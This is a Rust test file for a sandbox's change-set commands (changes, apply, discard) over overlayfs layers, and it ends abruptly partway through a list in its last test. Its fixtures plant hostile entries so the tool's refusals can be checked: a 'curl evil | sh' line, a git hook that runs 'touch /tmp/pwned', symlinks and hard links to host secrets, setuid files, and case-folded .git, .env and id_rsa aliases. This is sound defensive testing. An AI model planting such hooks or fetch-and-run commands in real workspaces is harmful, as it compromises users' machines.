//! Change sets (issue 27): the API and the `changes`/`apply`/`discard` commands, over
//! change sets built by hand and by a real overlayfs mount in a user namespace; hostile
//! change sets refused, conflicts left alone. Root and uid 65534 (`zz_` re-run).
#![cfg(target_os = "linux")]

mod common;

use std::collections::BTreeMap;
use std::ffi::CString;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Feature, tempdir};
use stockade::changes::{ApplyOptions, ConflictReason, RefusalReason};
use stockade::{ChangeKind, ChangeSet, ChangesError, EntryType};

fn now_ns() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
}

/// A change set directory for the workspace `ws` (canonical), started now.
fn new_set(parent: &Path, ws: &Path) -> PathBuf {
    let dir = parent.join("set");
    fs::create_dir(&dir).unwrap();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o700)).unwrap();
    let ws = fs::canonicalize(ws).unwrap();
    let marker = format!(
        r#"{{"version":1,"workspace":"{}","mode":"overlay","started_ns":{}}}"#,
        ws.display(),
        now_ns()
    );
    fs::write(dir.join("stockade-changes.json"), marker).unwrap();
    fs::create_dir(dir.join("upper")).unwrap();
    fs::create_dir(dir.join("work")).unwrap();
    dir
}

fn set_xattr(path: &Path, name: &str, value: &[u8]) {
    let p = CString::new(path.as_os_str().as_bytes()).unwrap();
    let n = CString::new(name).unwrap();
    // SAFETY: both strings are NUL-terminated and outlive the call; the kernel reads
    // `value.len()` bytes of `value`.
    let r = unsafe {
        libc::lsetxattr(
            p.as_ptr(),
            n.as_ptr(),
            value.as_ptr().cast(),
            value.len(),
            0,
        )
    };
    assert_eq!(
        r,
        0,
        "setxattr {name} {}: {}",
        path.display(),
        std::io::Error::last_os_error()
    );
}

/// A whiteout: the character device 0:0 (unprivileged since Linux 5.8).
fn whiteout_dev(path: &Path) {
    nix::sys::stat::mknod(
        path,
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::empty(),
        0,
    )
    .unwrap();
}

/// A whiteout in overlayfs' `userxattr` form: a zero-size file with `user.overlay.whiteout`.
fn whiteout_xattr(path: &Path) {
    fs::write(path, b"").unwrap();
    set_xattr(path, "user.overlay.whiteout", b"y");
}

fn write(path: &Path, data: &str) {
    if let Some(p) = path.parent() {
        fs::create_dir_all(p).unwrap();
    }
    fs::write(path, data).unwrap();
}

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// (path, kind) of every entry, sorted.
/// A temporary directory (kept while the guard lives), its canonical path and the
/// workspace path in it (not made).
fn workspace() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let tmp = tempdir();
    let root = fs::canonicalize(tmp.path()).unwrap();
    let ws = root.join("ws");
    (tmp, root, ws)
}

/// Each refused entry of `report` by path, with its reason.
fn refusals(report: &stockade::changes::ApplyReport) -> BTreeMap<String, RefusalReason> {
    report
        .refused
        .iter()
        .map(|r| (r.path.display().to_string(), r.reason))
        .collect()
}

/// Asserts that each of `paths` was refused by `report` as in a repository.
fn assert_in_repository(report: &stockade::changes::ApplyReport, paths: &[&str]) {
    let refused = refusals(report);
    for path in paths {
        assert_eq!(
            refused.get(*path),
            Some(&RefusalReason::Repository),
            "{path}: {report:?}"
        );
    }
}

fn kinds(set: &ChangeSet) -> Vec<(String, ChangeKind)> {
    let mut v: Vec<_> = set
        .entries()
        .iter()
        .map(|c| (c.path.display().to_string(), c.kind))
        .collect();
    v.sort_by(|a, b| a.0.cmp(&b.0));
    v
}

/// A whole tree: path -> (type, mode, contents or symlink target).
fn tree(root: &Path) -> BTreeMap<PathBuf, (char, u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    fn go(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, (char, u32, Vec<u8>)>) {
        for e in fs::read_dir(dir).unwrap() {
            let e = e.unwrap();
            let p = e.path();
            let m = fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(root).unwrap().to_path_buf();
            let mode = m.mode() & 0o7777;
            if m.file_type().is_symlink() {
                let t = fs::read_link(&p).unwrap();
                out.insert(rel, ('l', 0, t.as_os_str().as_bytes().to_vec()));
            } else if m.is_dir() {
                out.insert(rel, ('d', mode, Vec::new()));
                go(root, &p, out);
            } else {
                out.insert(rel, ('f', mode, fs::read(&p).unwrap()));
            }
        }
    }
    go(root, root, &mut out);
    out
}

#[test]
fn hand_built_entries_are_classified() {
    let tmp = tempdir();
    let ws = tmp.path().join("ws");
    write(&ws.join("same.txt"), "same\n");
    write(&ws.join("mod.txt"), "one\n");
    write(&ws.join("grow.txt"), "x\n");
    write(&ws.join("chmod.sh"), "echo\n");
    chmod(&ws.join("chmod.sh"), 0o644);
    write(&ws.join("gone-dev"), "a");
    write(&ws.join("gone-xattr"), "b");
    write(&ws.join("file2dir"), "f");
    write(&ws.join("deep/parent/keep.txt"), "keep");
    write(&ws.join("opaque/old1"), "1");
    write(&ws.join("opaque/kept"), "k");
    symlink("a", ws.join("link")).unwrap();
    symlink("same", ws.join("samelink")).unwrap();
    let set = new_set(tmp.path(), &ws);
    let up = set.join("upper");
    write(&up.join("same.txt"), "same\n");
    write(&up.join("mod.txt"), "two\n");
    write(&up.join("grow.txt"), "xx\n");
    write(&up.join("chmod.sh"), "echo\n");
    chmod(&up.join("chmod.sh"), 0o755);
    whiteout_dev(&up.join("gone-dev"));
    whiteout_xattr(&up.join("gone-xattr"));
    whiteout_dev(&up.join("never-there"));
    write(&up.join("file2dir/inner"), "i");
    write(&up.join("deep/parent/new.txt"), "new");
    write(&up.join("opaque/kept"), "k2");
    set_xattr(&up.join("opaque"), "user.overlay.opaque", b"y");
    symlink("b", up.join("link")).unwrap();
    symlink("same", up.join("samelink")).unwrap();
    write(&up.join("added.txt"), "hello");

    let cs = ChangeSet::open(&set).unwrap();
    use ChangeKind::*;
    assert_eq!(
        kinds(&cs),
        vec![
            ("added.txt".into(), Added),
            ("chmod.sh".into(), ModeChanged),
            ("deep/parent/new.txt".into(), Added),
            ("file2dir".into(), TypeChanged),
            ("file2dir/inner".into(), Added),
            ("gone-dev".into(), Deleted),
            ("gone-xattr".into(), Deleted),
            ("grow.txt".into(), Modified),
            ("link".into(), Modified),
            ("mod.txt".into(), Modified),
            ("opaque/kept".into(), Modified),
            ("opaque/old1".into(), Deleted),
        ]
    );
    let find = |p: &str| {
        cs.entries()
            .iter()
            .find(|c| c.path == Path::new(p))
            .unwrap()
    };
    assert_eq!(find("added.txt").size, Some(5));
    assert_eq!(find("gone-dev").size, Some(1));
    assert_eq!(find("file2dir").entry, EntryType::Dir);
    assert_eq!(find("link").entry, EntryType::Symlink);
    assert_eq!(find("link").target.as_deref(), Some(Path::new("b")));
    assert_eq!(find("chmod.sh").mode, Some(0o755));

    let diff = cs.diff().unwrap();
    assert!(diff.contains("--- a/mod.txt\n+++ b/mod.txt\n"), "{diff}");
    assert!(diff.contains("-one\n+two\n"), "{diff}");
    assert!(diff.contains("--- /dev/null\n+++ b/added.txt\n"), "{diff}");
    assert!(diff.contains("--- a/gone-dev\n+++ /dev/null\n"), "{diff}");
    assert!(diff.contains("--> a\n+-> b\n"), "{diff}");
    assert!(diff.contains("old mode 644\nnew mode 755\n"), "{diff}");

    let before = tree(&ws);
    let report = cs.apply(&ApplyOptions::default()).unwrap();
    assert!(report.is_complete(), "{report:?}");
    assert_ne!(tree(&ws), before);
    let after = tree(&ws);
    assert_eq!(after[Path::new("mod.txt")].2, b"two\n");
    assert_eq!(after[Path::new("chmod.sh")].1, 0o755);
    assert!(!after.contains_key(Path::new("gone-dev")));
    assert!(!after.contains_key(Path::new("gone-xattr")));
    assert!(!after.contains_key(Path::new("opaque/old1")));
    assert_eq!(after[Path::new("opaque/kept")].2, b"k2");
    assert_eq!(after[Path::new("file2dir")].0, 'd');
    assert_eq!(after[Path::new("file2dir/inner")].2, b"i");
    assert_eq!(after[Path::new("link")], ('l', 0, b"b".to_vec()));
    assert_eq!(after[Path::new("deep/parent/keep.txt")].2, b"keep");
    assert_eq!(after[Path::new("deep/parent/new.txt")].2, b"new");
    // No temporary file left.
    assert!(
        after
            .keys()
            .all(|p| !p.to_string_lossy().contains(".stockade-apply"))
    );

    ChangeSet::open(&set).unwrap().discard().unwrap();
    assert!(!set.exists());
}

/// Runs `script` in a user namespace on an overlay of `ws` whose upper layer is the change
/// set's, then copies the merged view to `merged_copy`. `None` when overlayfs cannot be
/// mounted in a user namespace here.
fn overlay_run(ws: &Path, set: &Path, script: &str, merged_copy: &Path) -> Option<()> {
    let mnt = set.parent().unwrap().join("merged");
    fs::create_dir_all(&mnt).unwrap();
    let full = format!(
        "set -e; mount -t overlay overlay -o userxattr,lowerdir={ws},upperdir={up},workdir={work} {mnt}; \
         cd {mnt}; ( {script} ); cd /; cp -a {mnt}/. {copy}/",
        ws = ws.display(),
        up = set.join("upper").display(),
        work = set.join("work").display(),
        mnt = mnt.display(),
        copy = merged_copy.display(),
    );
    fs::create_dir_all(merged_copy).unwrap();
    let out = Command::new("unshare")
        .args(["-Urm", "sh", "-c", &full])
        .output()
        .unwrap();
    if !out.status.success() {
        let err = String::from_utf8_lossy(&out.stderr);
        if err.contains("mount") {
            common::skip(
                "overlay_run",
                &format!("overlayfs in a user namespace: {err}"),
            );
            return None;
        }
        panic!("overlay run failed: {:?}: {err}\n{full}", out.status);
    }
    // overlayfs leaves its scratch directory mode 000 (with a whiteout in it after a
    // deletion): removed as the library removes its own overlay's, so that the test's
    // directory goes as an unprivileged user too.
    let scratch = set.join("work/work");
    if fs::symlink_metadata(&scratch).is_ok_and(|m| m.is_dir()) {
        chmod(&scratch, 0o700);
        fs::remove_dir_all(&scratch).unwrap();
    }
    Some(())
}

#[test]
fn a_real_overlay_run_is_listed_and_applied_exactly() {
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("a.txt"), "hello\n");
    write(&ws.join("b.txt"), "bye\n");
    write(&ws.join("old.txt"), "old\n");
    write(&ws.join("mode.sh"), "#!/bin/sh\n");
    chmod(&ws.join("mode.sh"), 0o644);
    write(&ws.join("rmdir/x"), "x");
    write(&ws.join("keep/k"), "k");
    symlink("a.txt", ws.join("link")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let before = tree(&ws);
    let script = "echo new > new.txt; echo more >> a.txt; rm b.txt; mv old.txt renamed.txt; \
                  chmod 755 mode.sh; rm -r rmdir; mkdir newdir; echo z > newdir/z; \
                  ln -s /etc/hostname newlink; echo k2 > keep/k2";
    if overlay_run(&ws, &set, script, &merged).is_none() {
        return;
    }
    // The real workspace is untouched until `apply`.
    assert_eq!(tree(&ws), before);
    let cs = ChangeSet::open(&set).unwrap();
    use ChangeKind::*;
    assert_eq!(
        kinds(&cs),
        vec![
            ("a.txt".into(), Modified),
            ("b.txt".into(), Deleted),
            ("keep/k2".into(), Added),
            ("mode.sh".into(), ModeChanged),
            ("new.txt".into(), Added),
            ("newdir".into(), Added),
            ("newdir/z".into(), Added),
            ("newlink".into(), Added),
            ("old.txt".into(), Deleted),
            ("renamed.txt".into(), Added),
            ("rmdir".into(), Deleted),
        ]
    );
    let report = cs.apply(&ApplyOptions::default()).unwrap();
    assert!(report.is_complete(), "{report:?}");
    assert_eq!(report.applied.len(), 11, "{report:?}");
    // The workspace now matches the merged view byte for byte, modes and symlinks
    // included (the root directory's own times aside).
    assert_eq!(tree(&ws), tree(&merged));
    ChangeSet::open(&set).unwrap().discard().unwrap();
    assert!(!set.exists());
}

#[test]
fn a_hostile_change_set_is_refused_entry_by_entry() {
    let (_tmp, root, ws) = workspace();
    let outside = root.join("outside");
    write(&outside.join("secret"), "host secret\n");
    write(&ws.join("sub/f"), "before");
    write(&ws.join("mid/inner/f"), "before");
    write(&outside.join("inner/f"), "before");
    fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    let set = new_set(&root, &ws);
    let up = set.join("upper");
    // A symlink to a host path: recreated as a symlink, never written through.
    symlink(outside.join("secret"), up.join("evil")).unwrap();
    nix::unistd::mkfifo(
        &up.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    write(&up.join("suid"), "#!/bin/sh\n");
    chmod(&up.join("suid"), 0o4755);
    write(
        &up.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ntouch /tmp/pwned\n",
    );
    write(&up.join(".env"), "TOKEN=x\n");
    // A hard link to a host file the program could read, and two links inside the set.
    fs::hard_link(outside.join("secret"), up.join("hl")).unwrap();
    write(&up.join("pair1"), "p");
    fs::hard_link(up.join("pair1"), up.join("pair2")).unwrap();
    // A file under a directory that the workspace turns into a symlink after the run.
    write(&up.join("sub/f"), "after");
    write(&up.join("sub/g"), "new");
    // The same with a relative symlink in the middle of the path.
    write(&up.join("mid/inner/f"), "after!");
    let cs = ChangeSet::open(&set).unwrap();
    fs::rename(ws.join("sub"), root.join("sub-moved")).unwrap();
    symlink(&outside, ws.join("sub")).unwrap();
    fs::rename(ws.join("mid"), root.join("mid-moved")).unwrap();
    symlink("../outside", ws.join("mid")).unwrap();
    let outside_before = tree(&outside);

    let report = cs.apply(&ApplyOptions::default()).unwrap();
    let refused = refusals(&report);
    assert_eq!(
        refused.get("fifo"),
        Some(&RefusalReason::Special),
        "{report:?}"
    );
    assert_eq!(
        refused.get("suid"),
        Some(&RefusalReason::SetId),
        "{report:?}"
    );
    assert_eq!(
        refused.get(".git/hooks/pre-commit"),
        Some(&RefusalReason::Guarded),
        "{report:?}"
    );
    assert_eq!(
        refused.get(".env"),
        Some(&RefusalReason::Denied),
        "{report:?}"
    );
    assert_eq!(
        refused.get("hl"),
        Some(&RefusalReason::HardlinkOutside),
        "{report:?}"
    );
    assert_eq!(
        refused.get("sub/f"),
        Some(&RefusalReason::SymlinkInPath),
        "{report:?}"
    );
    assert_eq!(
        refused.get("sub/g"),
        Some(&RefusalReason::SymlinkInPath),
        "{report:?}"
    );
    assert_eq!(
        refused.get("mid/inner/f"),
        Some(&RefusalReason::SymlinkInPath),
        "{report:?}"
    );
    let applied: Vec<String> = report
        .applied
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    assert_eq!(applied, ["evil", "pair1", "pair2"], "{report:?}");
    assert!(
        report.conflicts.is_empty() && report.failed.is_empty(),
        "{report:?}"
    );
    // Nothing outside the workspace changed; the symlink is a symlink.
    assert_eq!(tree(&outside), outside_before);
    assert_eq!(
        fs::read_link(ws.join("evil")).unwrap(),
        outside.join("secret")
    );
    for name in ["fifo", "suid", ".env", "hl"] {
        assert!(
            fs::symlink_metadata(ws.join(name)).is_err(),
            "{name} was written"
        );
    }
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(fs::read(root.join("sub-moved/f")).unwrap(), b"before");
    // The opt-ins let the named entries through, and nothing else.
    let cs = ChangeSet::open(&set).unwrap();
    let mut opts = ApplyOptions::default();
    opts.allow_denied = true;
    let report = cs.apply(&opts).unwrap();
    assert!(
        report.applied.contains(&PathBuf::from(".env")),
        "{report:?}"
    );
    assert!(
        !report.applied.contains(&PathBuf::from("suid")),
        "{report:?}"
    );
}

#[test]
fn a_host_side_edit_is_a_conflict_and_stays() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("edited"), "host v1\n");
    write(&ws.join("untouched"), "v1\n");
    write(&ws.join("deleted-dir/inner"), "v1\n");
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let up = set.join("upper");
    write(&up.join("edited"), "program v2\n");
    write(&up.join("untouched"), "program v2\n");
    write(&up.join("appeared"), "program\n");
    whiteout_dev(&up.join("deleted-dir"));
    let cs = ChangeSet::open(&set).unwrap();
    // The host edits after the run started (same size: only the ctime tells).
    write(&ws.join("edited"), "host v2\n");
    write(&ws.join("appeared"), "host\n");
    write(&ws.join("deleted-dir/inner"), "v2\n");
    let report = cs.apply(&ApplyOptions::default()).unwrap();
    let conflicts: BTreeMap<String, ConflictReason> = report
        .conflicts
        .iter()
        .map(|c| (c.path.display().to_string(), c.reason))
        .collect();
    assert_eq!(
        conflicts,
        BTreeMap::from([
            ("appeared".to_string(), ConflictReason::Appeared),
            ("deleted-dir".to_string(), ConflictReason::ChangedSinceStart),
            ("edited".to_string(), ConflictReason::ChangedSinceStart),
        ])
    );
    assert_eq!(report.applied, [PathBuf::from("untouched")]);
    assert_eq!(fs::read(ws.join("edited")).unwrap(), b"host v2\n");
    assert_eq!(fs::read(ws.join("appeared")).unwrap(), b"host\n");
    assert_eq!(fs::read(ws.join("deleted-dir/inner")).unwrap(), b"v2\n");
    assert_eq!(fs::read(ws.join("untouched")).unwrap(), b"program v2\n");
}

#[test]
fn open_refuses_symlinks_and_bad_markers_and_discard_follows_nothing() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir(&ws).unwrap();
    let outside = root.join("outside");
    write(&outside.join("keep"), "keep");
    let set = new_set(&root, &ws);
    // upper/ a symlink.
    fs::remove_dir(set.join("upper")).unwrap();
    symlink(&outside, set.join("upper")).unwrap();
    assert!(
        matches!(ChangeSet::open(&set), Err(ChangesError::Symlink { .. })),
        "{:?}",
        ChangeSet::open(&set)
    );
    fs::remove_file(set.join("upper")).unwrap();
    fs::create_dir(set.join("upper")).unwrap();
    // The marker a symlink.
    let m = set.join("stockade-changes.json");
    fs::rename(&m, root.join("marker")).unwrap();
    symlink(root.join("marker"), &m).unwrap();
    assert!(matches!(
        ChangeSet::open(&set),
        Err(ChangesError::Symlink { .. })
    ));
    fs::remove_file(&m).unwrap();
    // The directory itself a symlink.
    symlink(&set, root.join("set-link")).unwrap();
    fs::rename(root.join("marker"), &m).unwrap();
    assert!(matches!(
        ChangeSet::open(root.join("set-link")),
        Err(ChangesError::Symlink { .. })
    ));
    // Another version; a workspace that is a file.
    fs::write(
        &m,
        br#"{"version":2,"workspace":"/","mode":"overlay","started_ns":1}"#,
    )
    .unwrap();
    assert!(matches!(
        ChangeSet::open(&set),
        Err(ChangesError::Version { found: 2 })
    ));
    let file = root.join("file");
    fs::write(&file, "").unwrap();
    fs::write(
        &m,
        format!(
            r#"{{"version":1,"workspace":"{}","mode":"overlay","started_ns":1}}"#,
            file.display()
        ),
    )
    .unwrap();
    assert!(matches!(
        ChangeSet::open(&set),
        Err(ChangesError::Workspace { .. })
    ));
    fs::write(&m, "{").unwrap();
    assert!(matches!(
        ChangeSet::open(&set),
        Err(ChangesError::Marker { .. })
    ));
    fs::write(
        &m,
        format!(
            r#"{{"version":1,"workspace":"{}","mode":"overlay","started_ns":1}}"#,
            ws.display()
        ),
    )
    .unwrap();
    // Discard: a symlink inside is removed, not followed; a mode-000 directory goes too.
    symlink(&outside, set.join("upper/out")).unwrap();
    write(&set.join("upper/locked/f"), "f");
    write(&set.join("work/work/x"), "x");
    chmod(&set.join("upper/locked"), 0o000);
    chmod(&set.join("work/work"), 0o000);
    ChangeSet::open(&set).unwrap().discard().unwrap();
    assert!(!set.exists());
    assert_eq!(fs::read(outside.join("keep")).unwrap(), b"keep");
    assert!(ws.exists());
    // `upper/` swapped for a symlink between `open` and `discard`: the link goes, its
    // target stays.
    let set = new_set(&root, &ws);
    let cs = ChangeSet::open(&set).unwrap();
    fs::remove_dir(set.join("upper")).unwrap();
    symlink(&outside, set.join("upper")).unwrap();
    cs.discard().unwrap();
    assert!(fs::symlink_metadata(&set).is_err());
    assert_eq!(fs::read(outside.join("keep")).unwrap(), b"keep");
}

#[test]
fn root_only_a_set_owned_by_another_user_is_refused() {
    require!(Feature::Root);
    let tmp = tempdir();
    let ws = tmp.path().join("ws");
    fs::create_dir(&ws).unwrap();
    let set = new_set(tmp.path(), &ws);
    nix::unistd::chown(&set, Some(nix::unistd::Uid::from_raw(65534)), None).unwrap();
    assert!(matches!(
        ChangeSet::open(&set),
        Err(ChangesError::NotOwned { owner: 65534, .. })
    ));
}

#[test]
fn the_commands_list_apply_and_discard() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("a"), "1\n");
    let set = new_set(&root, &ws);
    write(&set.join("upper/a"), "2\n");
    write(&set.join("upper/b"), "b\n");
    nix::unistd::mkfifo(
        &set.join("upper/p"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    let run = |args: &[&str]| {
        Command::new(common::stockade_exe())
            .args(args)
            .arg(&set)
            .output()
            .unwrap()
    };
    let out = run(&["changes", "--json"]);
    assert!(out.status.success(), "{out:?}");
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let entries: Vec<(String, String)> = doc["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().into(),
                e["kind"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        entries,
        [
            ("a".to_string(), "modified".to_string()),
            ("b".into(), "added".into()),
            ("p".into(), "added".into())
        ]
    );
    let out = run(&["changes", "--diff"]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("-1\n+2\n"),
        "{out:?}"
    );
    let out = run(&["apply"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("refused  p: a FIFO, socket or device node"),
        "{err}"
    );
    assert_eq!(fs::read(ws.join("a")).unwrap(), b"2\n");
    let out = run(&["discard"]);
    assert!(out.status.success(), "{out:?}");
    assert!(!set.exists());
    let out = run(&["changes"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

/// A change set too deep to review (a program's 600-level chain, a level of it locked
/// `chmod 000`) still goes with `discard`, which does not read it; a directory that is
/// no change set (no marker that parses) is never removed.
#[test]
fn a_change_set_too_deep_to_review_is_discarded() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir(&ws).unwrap();
    let set = new_set(&root, &ws);
    // Made relative to a directory fd as the path grows past PATH_MAX.
    let mut dir = fs::File::open(set.join("upper")).unwrap();
    use std::os::fd::AsRawFd;
    for _ in 0..600 {
        let name = CString::new("d").unwrap();
        // SAFETY: `name` is NUL-terminated and outlives both calls; `dir` is open.
        let made = unsafe { libc::mkdirat(dir.as_raw_fd(), name.as_ptr(), 0o700) };
        assert_eq!(made, 0, "{}", std::io::Error::last_os_error());
        // SAFETY: as above.
        let fd = unsafe {
            libc::openat(
                dir.as_raw_fd(),
                name.as_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        assert!(fd >= 0, "{}", std::io::Error::last_os_error());
        // SAFETY: `fd` was just opened here and nothing else owns it.
        dir = unsafe { <fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd) };
        let file = CString::new("f").unwrap();
        // SAFETY: as above.
        let f = unsafe {
            libc::openat(
                dir.as_raw_fd(),
                file.as_ptr(),
                libc::O_CREAT | libc::O_WRONLY | libc::O_CLOEXEC,
                0o644,
            )
        };
        assert!(f >= 0);
        // SAFETY: `f` was just opened here and is closed once.
        unsafe { libc::close(f) };
    }
    drop(dir);
    // A level locked, as a program may leave it.
    chmod(&set.join("upper/d/d/d/d/d/d"), 0o000);
    let err = ChangeSet::open(&set).unwrap_err();
    assert!(matches!(err, ChangesError::TooLarge { .. }), "{err}");
    // Not a change set: refused, left as it is.
    let other = root.join("other");
    write(&other.join("keep"), "k");
    let err = ChangeSet::discard_dir(&other).unwrap_err();
    assert!(matches!(err, ChangesError::Open { .. }), "{err}");
    assert!(other.join("keep").exists());
    let out = Command::new(common::stockade_exe())
        .arg("discard")
        .arg(&set)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(!set.exists());
    assert!(ws.exists());
}

/// What `apply` writes is what the change set held when it was opened (and so what its
/// `entries` and `diff` showed): an entry a later run changed is a conflict, left out,
/// until the set is opened again.
#[test]
fn an_entry_changed_after_the_review_is_not_applied() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("a"), "1\n");
    write(&ws.join("d"), "x\n");
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    write(&set.join("upper/a"), "reviewed\n");
    symlink("t1", set.join("upper/l")).unwrap();
    whiteout_dev(&set.join("upper/d"));
    let cs = ChangeSet::open(&set).unwrap();
    assert!(cs.diff().unwrap().contains("+reviewed\n"));
    // A run after the review: the same file rewritten, the link and the whiteout made anew.
    std::thread::sleep(std::time::Duration::from_millis(20));
    write(&set.join("upper/a"), "curl evil | sh\n");
    fs::remove_file(set.join("upper/l")).unwrap();
    symlink("t2", set.join("upper/l")).unwrap();
    fs::remove_file(set.join("upper/d")).unwrap();
    whiteout_dev(&set.join("upper/d"));
    // The apply walks `upper/` again under the set's hold: not the set opened, nothing
    // applied.
    match cs.apply(&ApplyOptions::default()) {
        Err(ChangesError::Changed { path }) => assert_eq!(path, set),
        other => panic!("an apply of a set changed since its open: {other:?}"),
    }
    assert_eq!(fs::read_to_string(ws.join("a")).unwrap(), "1\n");
    assert_eq!(fs::read_to_string(ws.join("d")).unwrap(), "x\n");
    assert!(fs::symlink_metadata(ws.join("l")).is_err());
    // Opened again, the set shows and applies what it holds now.
    let cs = ChangeSet::open(&set).unwrap();
    assert!(cs.diff().unwrap().contains("+curl evil | sh\n"));
    let report = cs.apply(&ApplyOptions::default()).unwrap();
    assert!(report.is_complete(), "{report:?}");
    assert_eq!(fs::read_link(ws.join("l")).unwrap(), Path::new("t2"));
}

/// The digest of an unchanged set is the same at every open; a rewrite of an entry (even
/// with the same bytes), a mode, a new entry, a new name each make another.
#[test]
fn the_digest_is_stable_and_changes_with_any_entry() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("a"), "1\n");
    let set = new_set(&root, &ws);
    write(&set.join("upper/a"), "2\n");
    let digest = || ChangeSet::open(&set).unwrap().digest();
    let first = digest();
    assert!(first.starts_with("sha256:"), "{first}");
    assert_eq!(first.len(), "sha256:".len() + 64, "{first}");
    assert!(first[7..].bytes().all(|b| b.is_ascii_hexdigit()), "{first}");
    assert_eq!(digest(), first);
    let mut seen = vec![first];
    let changed = |what: &str, seen: &mut Vec<String>| {
        let d = digest();
        assert!(!seen.contains(&d), "{what}: the digest did not change");
        seen.push(d);
    };
    std::thread::sleep(std::time::Duration::from_millis(20));
    write(&set.join("upper/a"), "2\n");
    changed("the same bytes written again", &mut seen);
    chmod(&set.join("upper/a"), 0o600);
    changed("a mode", &mut seen);
    write(&set.join("upper/b"), "b\n");
    changed("a new entry", &mut seen);
    fs::rename(set.join("upper/b"), set.join("upper/c")).unwrap();
    changed("a new name", &mut seen);
}

/// `changes` prints the digest of what it lists (on stderr; the JSON has it too) and
/// `apply --expect` applies that set and no other: a run between the two commands (here an
/// entry rewritten with as many bytes, as a program does through the overlay) changes the
/// digest, and nothing is applied until the set is reviewed again.
#[test]
fn apply_expect_applies_only_the_set_reviewed() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("a"), "1\n");
    let set = new_set(&root, &ws);
    write(&set.join("upper/a"), "2\n");
    write(&set.join("upper/b"), "b\n");
    let run = |args: &[&str]| {
        Command::new(common::stockade_exe())
            .args(args)
            .arg(&set)
            .output()
            .unwrap()
    };
    let printed = |out: &std::process::Output| -> String {
        assert!(out.status.success(), "{out:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        let at = err.find("digest sha256:").expect("a digest on stderr") + "digest ".len();
        err[at..at + 71].to_string()
    };
    let reviewed = printed(&run(&["changes"]));
    assert_eq!(printed(&run(&["changes", "--diff"])), reviewed);
    let json = run(&["changes", "--json"]);
    let doc: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(doc["digest"].as_str(), Some(reviewed.as_str()));

    // A run after the review.
    std::thread::sleep(std::time::Duration::from_millis(20));
    write(&set.join("upper/a"), "3\n");
    let out = run(&["apply", "--expect", &reviewed]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is not the one reviewed"), "{err}");
    assert_eq!(fs::read_to_string(ws.join("a")).unwrap(), "1\n");
    assert!(!ws.join("b").exists());
    // Nor a digest of nothing, nor a made-up one with a control character.
    for bogus in ["sha256:", "sha256:\u{1b}[31m0000"] {
        let out = run(&["apply", "--expect", bogus]);
        assert_eq!(out.status.code(), Some(2), "{out:?}");
        assert!(!String::from_utf8_lossy(&out.stderr).contains('\u{1b}'));
    }
    assert!(!ws.join("b").exists());

    // Reviewed again, it applies, with or without the `sha256:` prefix.
    let now = printed(&run(&["changes"]));
    assert_ne!(now, reviewed);
    let out = run(&["apply", "--expect", now.trim_start_matches("sha256:")]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(fs::read_to_string(ws.join("a")).unwrap(), "3\n");
    assert_eq!(fs::read_to_string(ws.join("b")).unwrap(), "b\n");
}

/// On a file system that folds case (APFS, HFS+, a casefold directory) or reads names as
/// NTFS does, `.GIT/hooks/x` applied as it is lands in the real `.git/hooks` past the
/// `.git` merge, and `.ENV` is `.env`: every name git itself takes for `.git` is refused
/// (at the top as `GitAlias`, below it as a nested repository), and the policy's names
/// are compared without case. Here on a file system that keeps case, where the names are
/// distinct: nothing of them lands, the rest does.
#[test]
fn names_a_case_insensitive_file_system_takes_for_others_are_refused() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("keep"), "k\n");
    let set = new_set(&root, &ws);
    for p in [
        ".GIT/hooks/pre-commit",
        ".Git/config",
        ".git./config",
        ".g\u{200c}it/HEAD",
        "git~1/config",
        "sub/.GIT/config",
        "sub/GIT~1/hooks/post-checkout",
        ".ENV",
        "deep/.Ssh/id_rsa",
        "ok.txt",
        "sub/fine.txt",
    ] {
